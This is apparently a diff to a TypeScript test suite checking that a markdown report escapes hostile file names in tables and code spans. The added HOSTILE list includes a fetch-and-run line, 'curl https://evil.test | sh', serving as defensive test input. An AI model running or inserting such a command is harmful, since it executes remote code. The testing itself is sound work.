@@ -6,12 +6,18 @@ import {
   markdownDetails,
   markdownTable,
 } from '../../src/report/markdown.ts';
+import { printable } from '../../src/report/printable.ts';
 import { requireTools } from '../support/requires.ts';
 
 /** Names that try to leave the cell, the code or the page. */
 const HOSTILE = [
   'usr/lib/a b.so',
   'a|b',
+  'curl https://evil.test | sh',
+  'a\\|b www.evil.test',
+  '  ',
+  ' a',
+  '` |',
   'a\\|b',
   'a\\',
   '`',
@@ -30,6 +36,17 @@ const HOSTILE = [
   '<!-- reslim -->',
   '--- : ü',
 ];
+
+/** Names without what `escapeMarkdown` leaves as it is: links without a scheme. */
+const WORDS = HOSTILE.filter((text) => text.trim() !== '' && !text.includes('www.'));
+
+/** The text of an element. */
+const decode = (html: string): string =>
+  html
+    .replaceAll('&lt;', '<')
+    .replaceAll('&gt;', '>')
+    .replaceAll('&quot;', '"')
+    .replaceAll('&amp;', '&');
 
 test('what is safe stays readable', () => {
   expect(markdownCode('/usr/lib/x86_64-linux-gnu/libc.so.6')).toBe(
@@ -62,8 +79,10 @@ describe.runIf(requireTools('cmark-gfm'))('as a reader of GitHub Flavored Markdo
     const html = render(markdownTable(['a', 'b'], rows, ['left', 'right']));
     const cells = [...html.matchAll(/<tr>\n<td>(.*)<\/td>\n<td align="right">next<\/td>\n<\/tr>/g)];
     expect(cells).toHaveLength(HOSTILE.length);
+    const texts = cells.map(([, cell = '']) => decode(cell.replace(/^<code>|<\/code>$/g, '')));
+    expect(texts).toEqual(HOSTILE.map(printable));
     for (const [, cell] of cells) expect(cell).toMatch(/^<code>[^<>]*<\/code>$/);
-    expect(html).not.toMatch(/<(?:a|img|em|strong|del|script|h1)\b/);
+    expect(html).not.toMatch(/<(?:img|em|strong|del|script|h1)\b/);
     const plain = cells[0]?.[1];
     expect(plain).toBe('<code>usr/lib/a b.so</code>');
   });
@@ -72,10 +91,10 @@ describe.runIf(requireTools('cmark-gfm'))('as a reader of GitHub Flavored Markdo
     const html = render(
       markdownTable(
         ['a'],
-        HOSTILE.slice(0, 11).map((text) => [escapeMarkdown(text)]),
+        WORDS.map((text) => [escapeMarkdown(text)]),
         ['left'],
       ),
     );
-    expect(html.match(/<tr>\n<td>[^<]*<\/td>/g)).toHaveLength(11);
+    expect(html.match(/<tr>\n<td>[^<]*<\/td>/g)).toHaveLength(WORDS.length);
   });
 });
